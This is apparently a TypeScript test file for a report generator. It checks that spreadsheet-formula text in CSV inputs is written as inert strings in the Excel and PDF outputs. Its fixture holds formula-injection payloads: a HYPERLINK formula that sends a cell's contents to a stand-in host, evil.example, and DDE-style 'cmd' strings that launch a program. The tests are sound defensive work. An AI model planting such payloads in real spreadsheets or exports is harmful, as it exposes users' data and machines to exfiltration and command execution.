import ExcelJS from "exceljs";
import JSZip from "jszip";
import { execFileSync } from "node:child_process";
import { appendFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { buildReports, type BuildReportsResult as BuildResult } from "../../src/build.js";
import { DEFAULT_CONFIG } from "../../src/config.js";
import { weekPeriod } from "../../src/model/period.js";
import { copySamples } from "../helpers.js";

// Text a spreadsheet would run as a formula if it were written as one.
const FORMULAS = {
  title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  location: "@SUM(1+1)*cmd|' /C calc'!A0",
  summary: "+cmd|' /C calc'!A0",
  source: "-2+3",
};
const csv = (value: string) => `"${value.replaceAll('"', '""')}"`;

describe("text that looks like a formula ⇒ inert text in every output", () => {
  let result: BuildResult;
  let workbook: ExcelJS.Workbook;
  let zip: JSZip;

  beforeAll(async () => {
    const dir = await copySamples();
    const { title, location, summary, source } = FORMULAS;
    await appendFile(
      join(dir, "inputs/engagements.csv"),
      [
        `E-F1,2025-02-12,,${csv(title)},united-states;peru,cybersecurity,talks,${csv(location)},,${csv(summary)},,completed,${csv(source)}`,
        `E-F2,2025-03-20,,${csv(title)},france,cybersecurity,visit,${csv(location)},,${csv(summary)},,planned,${csv(source)}`,
        // Left out for its date, so the text reaches the Issues sheet and the annex as the value found.
        `E-F3,=NOW(),,Talks,france,cybersecurity,talks,,,,,completed,`,
      ].join("\n") + "\n",
    );
    const period = weekPeriod("2025-W07");
    result = await buildReports({
      inputs: join(dir, "inputs"), templates: "templates", config: DEFAULT_CONFIG, period, asOf: period.to, formats: ["xlsx", "pdf"], allowInvalid: true,
    });
    workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(result.files[0]!.bytes) as unknown as ArrayBuffer);
    zip = await JSZip.loadAsync(result.files[0]!.bytes);
  });

  it("the inputs take the text as typed; only the bad date is an issue", () => {
    expect(result.issues).toMatchObject([{ line: 12, column: "start_date", value: "=NOW()", code: "date_invalid" }]);
  });

  it("workbook ⇒ every such cell is a string, never a formula", () => {
    const found: string[] = [];
    const issueValue = workbook.getWorksheet("Issues")!.getRow(2).getCell(6);
    expect([issueValue.value, issueValue.type, issueValue.formula]).toEqual(["=NOW()", ExcelJS.ValueType.String, undefined]);
    for (const name of ["Engagements", "Upcoming"]) {
      workbook.getWorksheet(name)!.eachRow((row) => row.eachCell((cell) => {
        if (!Object.values(FORMULAS).includes(String(cell.value))) return;
        found.push(`${name}!${cell.address}`);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
      }));
    }
    // Engagements: title, location, summary, extra column of two rows; Upcoming: title and location of one.
    expect(found).toHaveLength(8 + 2);
  });

  it("workbook XML ⇒ no <f> holds the text; the only formulas are the matrix counts", async () => {
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(0);
    for (const name of sheets) {
      const xml = await zip.file(name)!.async("string");
      for (const [, formula] of xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)) expect(formula).toMatch(/^COUNTIFS\(|^SUM\(/);
    }
    const strings = await zip.file("xl/sharedStrings.xml")?.async("string");
    const inline = (await Promise.all(sheets.map((name) => zip.file(name)!.async("string")))).join("");
    expect(`${strings ?? ""}${inline}`).toContain("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)");
  });

  it("PDF ⇒ the text is printed as typed", () => {
    const text = execFileSync("pdftotext", ["-raw", "-", "-"], { input: result.files[1]!.bytes }).toString("utf8");
    expect(text).toContain(FORMULAS.title);
    expect(text).toContain(FORMULAS.summary);
    expect(text).toContain(FORMULAS.location);
    expect(text.replace(/\s+/g, " ")).toContain('row left out: "=NOW()" is not a date');
  });
});
